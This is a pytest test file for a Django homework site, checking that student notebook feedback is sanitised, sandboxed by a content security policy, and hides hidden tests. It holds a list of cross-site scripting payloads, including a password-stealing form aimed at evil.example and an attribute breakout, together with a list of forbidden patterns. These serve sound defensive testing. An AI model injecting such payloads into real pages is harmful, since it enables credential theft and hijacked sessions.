"""Feedback rendering: student HTML, JavaScript and SVG become inert; PNG plots and HTML tables remain."""

from __future__ import annotations

import base64
import json
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from django.urls import reverse

from courseweb.homework import storage
from courseweb.homework.feedback import clean_html, image_data_url, render_feedback, render_feedback_fragment
from courseweb.homework.services import grading
from courseweb.homework.services.assignments import SyncReport, assignment_sync
from courseweb.homework.services.runner import grading_run
from courseweb.homework.services.submissions import submission_create
from tests.courseweb.homework.notebooks import to_bytes

PNG = base64.b64encode(
    bytes.fromhex(
        "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
        "1f15c4890000000d49444154789c6360f8cfc0f01f0005000201e221bc330000000049454e44ae426082"
    )
).decode()
EVIL_HTML = (
    "<script>window.top.__pwned = 1</script>"
    '<img src="x" onerror="window.top.__pwned = 2">'
    '<a href="javascript:window.top.__pwned = 3">click</a>'
    '<svg onload="window.top.__pwned = 4"><script>window.top.__pwned = 5</script></svg>'
    '<iframe src="https://evil.example"></iframe><style>body{display:none}</style>'
    "<table><thead><tr><th>model</th><th>rmse</th></tr></thead><tbody><tr><td>ols</td><td>0.42</td></tr></tbody></table>"
)
EVIL_SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg"><script>window.top.__pwned = 6</script><circle r="4"/></svg>'
)


def evil_notebook() -> dict:
    """A feedback notebook whose outputs try every trick, plus a real PNG plot and an HTML table."""
    return {
        "nbformat": 4,
        "nbformat_minor": 5,
        "metadata": {},
        "cells": [
            {"cell_type": "markdown", "id": "m", "metadata": {},
             "source": "# Notes <script>window.top.__pwned = 7</script> [x](javascript:alert(1))"},
            {"cell_type": "code", "id": "c", "metadata": {"nbgrader": {"grade_id": "means", "solution": True}},
             "source": "display(HTML(evil))", "execution_count": 1, "outputs": [
                 {"output_type": "display_data", "metadata": {}, "data": {"text/html": EVIL_HTML}},
                 {"output_type": "display_data", "metadata": {}, "data": {"image/svg+xml": EVIL_SVG}},
                 {"output_type": "display_data", "metadata": {}, "data": {"image/png": PNG, "text/plain": "<Figure>"}},
                 {"output_type": "stream", "name": "stdout", "text": "<b>not bold</b>\n"},
             ]},
            {"cell_type": "code", "id": "t", "metadata": {"nbgrader": {"grade_id": "test_means", "grade": True}},
             "source": "assert ok\n### BEGIN HIDDEN TESTS\nassert secret_check()\n### END HIDDEN TESTS",
             "execution_count": 2, "outputs": [{"output_type": "error", "ename": "AssertionError",
                                                 "evalue": "secret_check", "traceback": ["secret_check()"]}]},
        ],
    }  # fmt: skip


RELEASED = {
    "cells": [
        {"cell_type": "code", "metadata": {"nbgrader": {"grade_id": "test_means"}}, "source": "assert ok"}
    ]
}


def test_rendered_feedback_is_inert_but_keeps_plots_and_tables():
    html = render_feedback(
        notebook=evil_notebook(),
        released=RELEASED,
        results={"test_means": {"status": "failed", "score": 0, "max_score": 2, "message": "failed"}},
        test_ids={"test_means"},
    )
    lowered = html.lower()
    assert "<script" not in lowered and "onerror" not in lowered and "onload" not in lowered
    assert not re.search(r"(href|src)\s*=\s*[\"']?\s*javascript:", lowered)
    assert "<iframe" not in lowered and "<svg" not in lowered and "display:none" not in lowered
    assert f'src="data:image/png;base64,{PNG}"' in html
    assert "<table>" in html and "<td>0.42</td>" in html
    assert "image/svg+xml" not in html  # SVG is never shown, not even as an image
    assert "&lt;b&gt;not bold&lt;/b&gt;" in html
    assert "secret_check" not in html  # hidden tests and their outputs never reach the student
    assert "Test failed" in html


def test_clean_html_drops_data_urls_that_are_not_images():
    out = clean_html('<img src="data:text/html;base64,PHNjcmlwdD4="><a href="data:text/html,x">x</a>')
    assert "data:text/html" not in out


@pytest.fixture
def graded_job(tiny, released, solo):
    """A job completed with the evil feedback notebook stored where the worker stores it."""
    job = submission_create(user=solo, assignment=tiny, filename="tiny.ipynb", data=to_bytes(released)).job
    claim = grading.job_claim(job_id=job.pk, worker="test")
    folder = f"feedback/{job.pk}/1"
    storage.file_write(name=f"{folder}/tiny.ipynb", data=json.dumps(evil_notebook()).encode())
    grading.job_complete(
        job_id=job.pk,
        token=claim.token,
        outcome={
            "score": 0.0, "max_score": 5.0, "needs_manual": True, "flags": [],
            "cells": {"tiny": {"test_means": {"status": "failed", "score": 0, "max_score": 2, "message": ""}}},
            "feedback_dir": folder,
        },
    )  # fmt: skip
    job.refresh_from_db()
    return job


def test_feedback_is_inline_in_the_submission_page_and_inert(client, graded_job, solo):
    client.force_login(solo)
    page = client.get(reverse("homework:submission", args=[graded_job.submission_id])).content.decode()
    assert "<iframe" not in page  # no fixed-height frame: the feedback is part of the page
    start = page.index('<div class="feedback-notebook">')
    fragment = page[start:]
    assert "<td>0.42</td>" in fragment and f'src="data:image/png;base64,{PNG}"' in fragment
    lowered = fragment.lower()
    for needle in ("<script", "onerror=", "onload=", "<svg", "<style", "<iframe"):
        assert needle not in lowered, needle
    assert not re.search(r"(href|src)\s*=\s*[\"']?\s*javascript:", lowered)
    assert "secret_check" not in page
    assert "css/feedback.css" in page and "katex.min.css" in page


def test_standalone_feedback_document_has_a_strict_sandboxing_csp(client, graded_job, solo):
    client.force_login(solo)
    response = client.get(reverse("homework:feedback", args=[graded_job.pk, "tiny"]))
    assert response.status_code == 200
    csp = response["Content-Security-Policy"]
    assert "default-src 'none'" in csp and "img-src data:" in csp and re.search(r"\bsandbox\b", csp)
    assert "script-src" not in csp  # scripts fall back to default-src 'none'
    assert "<td>0.42</td>" in response.content.decode()


def test_feedback_of_another_group_is_forbidden(client, graded_job, pair):
    client.force_login(pair[0])
    assert client.get(reverse("homework:feedback", args=[graded_job.pk, "tiny"])).status_code == 403


def test_released_notebook_download(client, tiny, solo):
    client.force_login(solo)
    response = client.get(reverse("homework:download", args=["tiny", "tiny"]))
    body = b"".join(response.streaming_content)
    assert response.status_code == 200 and b"HIDDEN" not in body
    assert json.loads(body) == json.loads((Path(tiny.release_dir) / "tiny.ipynb").read_text())


def render(outputs: list[dict] | None = None, markdown: str | None = None) -> str:
    """The inline fragment of a notebook with one markdown cell and one code cell with these outputs."""
    cells = []
    if markdown is not None:
        cells.append({"cell_type": "markdown", "metadata": {}, "source": markdown})
    cells.append({"cell_type": "code", "metadata": {}, "source": "x", "outputs": outputs or []})
    return render_feedback_fragment(
        notebook={"nbformat": 4, "cells": cells}, released=None, results={}, test_ids=set()
    )


def html_output(fragment: str) -> dict:
    return {"output_type": "display_data", "metadata": {}, "data": {"text/html": fragment}}


ATTACKS = {
    "script tag": "<script>alert(1)</script><p>ok</p>",
    "script in a table": "<table><tr><td><script>alert(1)</script></td></tr></table>",
    "event handler": '<p onclick="alert(1)" onmouseover="alert(2)">ok</p><img src="x" onerror="alert(3)">',
    "svg": '<svg onload="alert(1)"><circle r="4"/><script>alert(2)</script></svg>',
    "svg image": '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+">',
    "javascript link": '<a href="javascript:alert(1)">x</a><a href=" JaVaScRiPt:alert(1)">y</a>',
    "style tag": "<style>body{display:none}*{position:fixed}</style><p>ok</p>",
    "style attribute": '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">x</div>',
    "site classes": '<div class="card button modal-backdrop">x</div>',
    "form": '<form action="https://evil.example/steal" method="post"><input name="password"><button>Go</button></form>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "base tag": '<base href="https://evil.example/">',
    "iframe": '<iframe src="https://evil.example"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object and embed": '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">',
    "link stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "math element": '<math><mtext><img src=x onerror="alert(1)"></mtext></math>',
    "remote image": '<img src="https://evil.example/track.png">',
    "data url not an image": '<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
}
FORBIDDEN = (
    "<script", "alert(", "onclick", "onerror", "onload", "onmouseover", "<svg", "svg+xml", "javascript:",
    "<style", "style=", "position:fixed", "class=\"card", "<form", "<input", "<button", "<meta", "refresh",
    "<base", "<iframe", "srcdoc", "<object", "<embed", "<link", "evil.example", "<math", "data:text/html",
)  # fmt: skip


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_html_output_attacks_become_inert(name):
    fragment = render([html_output(ATTACKS[name])])
    assert_inert(fragment)
    for needle in FORBIDDEN:
        assert needle not in fragment.lower(), (name, needle)


class Elements(HTMLParser):
    """Every start tag of a fragment with its attributes, as a browser's tokenizer sees them."""

    def __init__(self, fragment: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str]]] = []
        self.feed(fragment)

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, {k: v or "" for k, v in attrs}))


def assert_inert(fragment: str) -> None:
    for tag, attrs in Elements(fragment).found:
        assert tag not in {"script", "svg", "style", "form", "input", "button", "meta", "base", "iframe",
                           "object", "embed", "link", "math", "textarea"} or "katex" in fragment, tag  # fmt: skip
        assert not any(name.startswith("on") for name in attrs), (tag, attrs)
        assert "style" not in attrs or tag == "span", (tag, attrs)  # only KaTeX's own spans carry styles
        for name in ("href", "src", "action", "formaction", "data", "srcdoc"):
            value = attrs.get(name, "").strip().lower()
            assert not value.startswith(("javascript:", "vbscript:", "data:text", "data:image/svg")), (
                tag,
                value,
            )
            if name == "src" and name in attrs:
                assert value.startswith(("data:image/png;", "data:image/jpeg;", "data:image/gif;")), value


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_markdown_attacks_become_inert(name):
    """Markdown shows raw HTML as escaped text: no element of it exists in the page."""
    fragment = render(markdown=f"# Notes\n\n{ATTACKS[name]}\n\n[x](javascript:alert(1))")
    assert_inert(fragment)
    assert "katex" not in fragment


def test_png_payload_that_is_not_base64_never_reaches_an_attribute():
    """The image/png breakout: a payload that closes the src attribute and adds an event handler."""
    breakout = 'AAAA" onerror="alert(1)" x="'
    fragment = render([{"output_type": "display_data", "metadata": {}, "data": {"image/png": breakout}}])
    assert "onerror" not in fragment and "alert" not in fragment and "<img" not in fragment
    html_breakout = html_output(f'<img src="data:image/png;base64,{breakout}">')
    assert "alert" not in render([html_breakout]) and "onerror" not in render([html_breakout])


def test_images_must_be_strict_base64_of_the_format_they_claim():
    gif = base64.b64encode(b"GIF89a" + bytes(20)).decode()
    jpeg = base64.b64encode(b"\xff\xd8\xff\xe0" + bytes(20)).decode()
    svg_as_png = base64.b64encode(b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>').decode()
    html_as_png = base64.b64encode(b"<script>alert(1)</script>").decode()
    assert image_data_url("image/png", PNG) == f"data:image/png;base64,{PNG}"
    assert image_data_url("image/png", PNG[:20] + "\n" + PNG[20:]) == f"data:image/png;base64,{PNG}"
    assert image_data_url("image/gif", gif) and image_data_url("image/jpeg", jpeg)
    assert image_data_url("image/png", svg_as_png) is None  # decodes, but is not a PNG
    assert image_data_url("image/png", html_as_png) is None
    assert image_data_url("image/jpeg", PNG) is None  # a PNG claiming to be a JPEG
    assert image_data_url("image/svg+xml", svg_as_png) is None
    assert image_data_url("image/png", PNG + "!") is None  # not strictly base64
    assert image_data_url("image/png", PNG[:-1]) is None  # bad padding
    shown = render(
        [
            {
                "output_type": "display_data",
                "metadata": {},
                "data": {"image/png": svg_as_png, "text/plain": "<Fig>"},
            },
            {"output_type": "display_data", "metadata": {}, "data": {"image/gif": gif}},
        ]
    )
    assert svg_as_png not in shown and "&lt;Fig&gt;" in shown  # falls back to the text form
    assert f'src="data:image/gif;base64,{gif}"' in shown


def test_markdown_math_is_rendered_on_the_server_with_katex():
    fragment = render(
        markdown="Take $k=1$ neighbours.\n\n$$\\hat y = \\frac{1}{k}\\sum_i y_i$$\n\nCost: 5 $ or 6 $."
    )
    assert fragment.count('class="katex"') >= 2 and 'class="katex-display"' in fragment
    assert "$k=1$" not in fragment
    assert "<math" in fragment  # KaTeX's MathML for screen readers
    assert "Cost: 5 $ or 6 $." in fragment  # prices are not math
    assert_inert(fragment)


def test_student_headings_stay_below_the_page_headings():
    fragment = render(markdown="# Big title\n\n## Part", outputs=[html_output("<h1>Out</h1>")])
    assert "<h1" not in fragment and "<h2" not in fragment
    assert "<h4>Big title</h4>" in fragment and "<h5>Part</h5>" in fragment and "<h4>Out</h4>" in fragment


def test_test_cells_show_the_engine_traceback_but_never_their_own_outputs():
    notebook = evil_notebook()
    test_cell = notebook["cells"][2]
    test_cell["metadata"]["grader"] = {
        "status": "error",
        "traceback": [
            "Traceback (most recent call last):",
            "  Test cell test_means, line 1",
            "    assert ok",
            "<script>alert(1)</script>NotImplementedError",
        ],
    }
    fragment = render_feedback_fragment(
        notebook=notebook,
        released=RELEASED,
        results={
            "test_means": {"status": "error", "score": 0, "max_score": 2, "message": "NotImplementedError"}
        },
        test_ids={"test_means"},
    )
    assert "Test cell test_means, line 1" in fragment
    assert "&lt;script&gt;alert(1)&lt;/script&gt;NotImplementedError" in fragment
    assert "secret_check" not in fragment


TEACHING_TOML = """[course]
title = "Feedback homework"
release_session = 1
late_policy = "percent_per_day"
late_percent = 10
cutoff_days = 7
requires_gpu = false

[limits]
cell_timeout_s = 25
total_timeout_s = 90
"""


def _code(source: str, gid: str, **flags) -> dict:
    meta = {
        "grade": False,
        "grade_id": gid,
        "locked": False,
        "points": 0,
        "schema_version": 3,
        "solution": False,
    }
    meta.update(flags)
    return {"cell_type": "code", "id": gid, "metadata": {"nbgrader": meta}, "source": source,
            "execution_count": None, "outputs": []}  # fmt: skip


@pytest.fixture
def teaching(offering, sessions, hw_media, tmp_path):
    """An assignment whose test has a visible assertion and a hidden one with its own message."""
    source = tmp_path / "fbhw" / "source"
    source.mkdir(parents=True)
    cells = [
        _code("import numpy as np", "setup", locked=True),
        _code("def knn(x):\n    ### BEGIN SOLUTION\n    return 2 * x\n    ### END SOLUTION", "knn", solution=True),
        _code(
            'assert knn(1) == 2, "knn(1) should be 2"\n### BEGIN HIDDEN TESTS\n'
            'assert knn(21) == 42, "HIDDEN-MESSAGE-of-the-test"\n### END HIDDEN TESTS',
            "test_knn", grade=True, points=2,
        ),
    ]  # fmt: skip
    notebook = {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": cells}
    (source / "fbhw.ipynb").write_text(json.dumps(notebook))
    (source / "assignment.toml").write_text(TEACHING_TOML)
    report = SyncReport()
    assignment = assignment_sync(offering=offering, key="fbhw", source=source, report=report)
    assert report.errors == [] and assignment is not None
    return assignment


def _graded_page(client, *, user, assignment, knn_source: str | None) -> str:
    nb = json.loads((Path(assignment.release_dir) / "fbhw.ipynb").read_text())
    if knn_source is not None:
        next(c for c in nb["cells"] if c["metadata"]["nbgrader"]["grade_id"] == "knn")["source"] = knn_source
    job = submission_create(user=user, assignment=assignment, filename="fbhw.ipynb", data=to_bytes(nb)).job
    assert grading_run(job_id=job.pk, worker="test") == "graded"
    client.force_login(user)
    return client.get(reverse("homework:submission", args=[job.submission_id])).content.decode()


def test_submission_page_teaches_from_a_visible_test_and_hides_the_hidden_one(
    client, teaching, solo, light_engine
):
    page = _graded_page(client, user=solo, assignment=teaching, knn_source=None)  # knn still raises
    feedback = page[page.index('<div class="feedback-notebook">') :]
    assert "NotImplementedError" in feedback
    assert "raise NotImplementedError()" in feedback  # the student's own line
    assert "assert knn(1) == 2" in feedback  # the visible line of the test
    assert "hidden tests failed" not in page
    for hidden in ("HIDDEN-MESSAGE", "knn(21)"):
        assert hidden not in page

    # the visible assertion passes, the hidden one fails with its message: neither message nor source shows
    page = _graded_page(
        client, user=solo, assignment=teaching, knn_source="def knn(x):\n    return 2 if x == 1 else 0"
    )
    feedback = page[page.index('<div class="feedback-notebook">') :]
    assert "AssertionError" in feedback and "hidden test" in feedback
    for hidden in ("HIDDEN-MESSAGE", "knn(21)"):
        assert hidden not in page


def test_html_images_keep_a_text_alternative_and_refused_ones_disappear():
    fragment = clean_html(
        f'<img src="https://evil.example/x.png"><img src="x" onerror="a"><img src="data:image/png;base64,{PNG}">'
    )
    assert fragment == f'<img alt="output image" src="data:image/png;base64,{PNG}">'
